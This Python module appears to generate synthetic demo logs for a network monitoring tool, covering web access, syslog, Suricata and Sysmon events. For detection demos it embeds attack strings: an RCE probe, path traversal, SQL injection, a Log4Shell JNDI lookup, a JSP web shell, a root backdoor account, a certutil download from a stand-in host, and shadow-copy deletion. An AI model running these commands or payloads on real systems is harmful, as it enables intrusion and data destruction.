"""The samples that `hanwatch run --demo` replays: a synthetic hour of a city's networks.

Nothing here was recorded. Addresses are those of documentation (RFC 5737, RFC 3849) and private ones, hosts are called
`synthetic-…`, and the same start gives the same files. A few situations stand in a lot of ordinary traffic.
"""

import json
import random
from collections.abc import Callable, Iterator
from importlib.util import find_spec
from pathlib import Path
from typing import Any

from sensors.event.times import SECOND, iso

SEED = 20251101
HOUR = 3_600 * SECOND
STATIONS = tuple(f"10.{district}.{unit}.{host}" for district in range(1, 16) for unit in (2, 7) for host in (11, 23))
PORTAL = "10.20.0.80"
OUTSIDE = ("192.0.2.10", "192.0.2.77", "198.51.100.23", "203.0.113.5", "203.0.113.199")
PAGES = (
    "/",
    "/zwgk/",
    "/bsfw/list.html",
    "/hdjl/zxly.html",
    "/css/site.css",
    "/js/main.js",
    "/images/banner.jpg",
    "/search?q=社保",
)
NAMES = (
    "portal.synthetic.example",
    "mail.synthetic.example",
    "oa.synthetic.example",
    "update.vendor.example",
    "ntp.synthetic.example",
)
AGENT = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0 Safari/537.36"


def write_samples(folder: Path, now: int) -> list[Path]:
    """Write the samples below `folder`, their last events at about `now` (ns); files that are there are left alone.

    Captures are written only where scapy is installed; the logs always.
    """
    folder.mkdir(parents=True, exist_ok=True)
    chance = random.Random(SEED)  # noqa: S311 - ordinary traffic, no secrets
    written = []
    for name, lines in LOGS:
        file = folder / f"synthetic-{name}"
        if not file.exists():
            file.write_text("".join(f"{line}\n" for line in lines(now - HOUR, chance)), encoding="utf-8")
            written.append(file)
    # Its name comes last in the folder: the first capture waits until the kernels are compiled, the logs need not.
    file = folder / "synthetic-tap-extranet.pcap"
    if not file.exists() and find_spec("scapy") is not None:
        from sensors.capture.craft import save  # noqa: PLC0415 - scapy may be left out, and loads for a second

        save(file, now - HOUR // 3)
        written.append(file)
    return written


def _spread(start: int, number: int, chance: random.Random) -> list[int]:
    """Moments within the hour, in order."""
    return sorted(start + chance.randrange(HOUR) for _ in range(number))


def _access(start: int, chance: random.Random) -> Iterator[str]:
    """The portal's nginx log, combined format: visitors, and one who looks for a way in and finds a shell."""
    probes = (
        (
            "GET",
            "/index.php?s=/index/think\\x5Capp/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
            404,
        ),
        ("GET", "/..%2f..%2f..%2fetc/passwd", 200),
        ("GET", "/bsfw/list.html?id=1%27%20UNION%20SELECT%20user,password%20FROM%20users--", 500),
        ("GET", "/?x=${jndi:ldap://203.0.113.199/a}", 200),
        ("POST", "/upload/images/x.jsp", 200),
        ("POST", "/upload/images/x.jsp?cmd=whoami", 200),
    )
    visits = [(moment, None) for moment in _spread(start, 900, chance)]
    attack = [(start + HOUR * 2 // 3 + number * 9 * SECOND, probe) for number, probe in enumerate(probes)]
    for moment, probe in sorted([*visits, *attack], key=lambda item: item[0]):
        client = "203.0.113.199" if probe else chance.choice(OUTSIDE[:4])
        method, path, status = probe or ("GET", chance.choice(PAGES), chance.choice((200, 200, 200, 304, 404)))
        agent = "sqlmap/1.8" if probe and "UNION" in path else AGENT
        size = chance.randrange(200, 40_000)
        yield f'{client} - - [{_clf(moment)}] "{method} {path} HTTP/1.1" {status} {size} "-" "{agent}"'


def _clf(moment: int) -> str:
    text = iso(moment)
    months = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")
    return f"{text[8:10]}/{months[int(text[5:7]) - 1]}/{text[:4]}:{text[11:19]} +0000"


def _syslog(start: int, chance: random.Random) -> Iterator[str]:
    """A cloud host's syslog (RFC 5424): cron and logins, then passwords being guessed until one fits."""
    ordinary = [(moment, "CRON", "(root) CMD (/usr/lib/synthetic/check)") for moment in _spread(start, 200, chance)]
    guesses = [
        (
            start + HOUR // 2 + number * 2 * SECOND,
            "sshd",
            f"Failed password for root from 198.51.100.23 port {40_000 + number} ssh2",
        )
        for number in range(40)
    ]
    entry = [
        (start + HOUR // 2 + 90 * SECOND, "sshd", "Accepted password for root from 198.51.100.23 port 40100 ssh2"),
        (
            start + HOUR // 2 + 99 * SECOND,
            "useradd",
            "new user: name=support, UID=0, GID=0, home=/root, shell=/bin/bash",
        ),
    ]
    for moment, program, text in sorted([*ordinary, *guesses, *entry], key=lambda item: item[0]):
        yield f"<86>1 {iso(moment)} synthetic-cloud-host-03 {program} {chance.randrange(500, 30_000)} - - {text}"


def _eve(start: int, chance: random.Random) -> Iterator[str]:
    """A Suricata sensor at the extranet's border: flows, names, and a Modbus write from the wrong side."""
    for number, moment in enumerate(_spread(start, 700, chance)):
        common: dict[str, Any] = {
            "timestamp": iso(moment).replace("Z", "+0000"),
            "flow_id": 10_000 + number,
            "in_iface": "synthetic0",
            "src_ip": chance.choice(STATIONS),
            "src_port": chance.randrange(32_768, 61_000),
        }
        if number % 3:
            query = {"type": "query", "id": number, "rrname": chance.choice(NAMES), "rrtype": "A", "tx_id": 0}
            yield _json(
                common | {"event_type": "dns", "dest_ip": "10.20.0.53", "dest_port": 53, "proto": "UDP", "dns": query}
            )
        else:
            flow = {
                "pkts_toserver": 12,
                "pkts_toclient": 10,
                "bytes_toserver": chance.randrange(800, 9_000),
                "bytes_toclient": chance.randrange(800, 90_000),
                "start": iso(moment).replace("Z", "+0000"),
                "end": iso(moment + SECOND).replace("Z", "+0000"),
                "age": 1,
                "state": "closed",
                "reason": "timeout",
            }
            yield _json(
                common | {"event_type": "flow", "dest_ip": PORTAL, "dest_port": 443, "proto": "TCP", "flow": flow}
            )
    yield _json(
        {
            "timestamp": iso(start + HOUR * 3 // 4).replace("Z", "+0000"),
            "flow_id": 99_001,
            "event_type": "alert",
            "in_iface": "synthetic0",
            "src_ip": "10.3.7.23",
            "src_port": 51_515,
            "dest_ip": "10.60.1.9",
            "dest_port": 502,
            "proto": "TCP",
            "app_proto": "modbus",
            "alert": {
                "action": "allowed",
                "gid": 1,
                "signature_id": 9_000_001,
                "rev": 1,
                "severity": 1,
                "signature": "SYNTHETIC Modbus write multiple registers from outside the control network",
                "category": "Potentially Bad Traffic",
            },
        }
    )


def _windows(start: int, chance: random.Random) -> Iterator[str]:
    """Process creations of office stations as ECS lines, as agents send them; one does what none should."""
    for moment in _spread(start, 150, chance):
        yield _json(
            _process(
                moment,
                chance,
                "C:\\Windows\\System32\\svchost.exe",
                "svchost.exe -k netsvcs",
                "C:\\Windows\\System32\\services.exe",
            )
        )
    late = start + HOUR * 5 // 6
    for number, (image, command) in enumerate(
        (
            (
                "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                "powershell.exe -nop -w hidden -enc UwBZAE4AVABIAEUAVABJAEMA",
            ),
            (
                "C:\\Windows\\System32\\certutil.exe",
                "certutil.exe -urlcache -split -f http://203.0.113.199/a.txt a.exe",
            ),
            ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
        )
    ):
        yield _json(
            _process(
                late + number * 7 * SECOND, chance, image, command, "C:\\Program Files\\Microsoft Office\\WINWORD.EXE"
            )
        )


def _process(moment: int, chance: random.Random, image: str, command: str, parent: str) -> dict[str, Any]:
    name = image.rpartition("\\")[2]
    return {
        "@timestamp": iso(moment),
        "event.dataset": "windows.sysmon",
        "event.module": "windows",
        "event.code": "1",
        "event.provider": "Microsoft-Windows-Sysmon",
        "winlog.channel": "Microsoft-Windows-Sysmon/Operational",
        "host.name": f"synthetic-office-{chance.randrange(1, 30):02d}",
        "user.name": "synthetic-user",
        "process.executable": image,
        "process.name": name,
        "process.command_line": command,
        "process.parent.executable": parent,
        "winlog.event_data.Image": image,
        "winlog.event_data.CommandLine": command,
        "winlog.event_data.ParentImage": parent,
        "winlog.event_data.OriginalFileName": name,
        "winlog.event_data.User": "SYNTHETIC\\synthetic-user",
    }


def _json(event: dict[str, Any]) -> str:
    return json.dumps(event, ensure_ascii=False, separators=(",", ":"))


LOGS: tuple[tuple[str, Callable[[int, random.Random], Iterator[str]]], ...] = (
    ("portal-access.log", _access),
    ("cloud-syslog.log", _syslog),
    ("extranet-eve.json", _eve),
    ("office-windows.jsonl", _windows),
)
"""The logs in the order in which they are written, since they share one chance."""
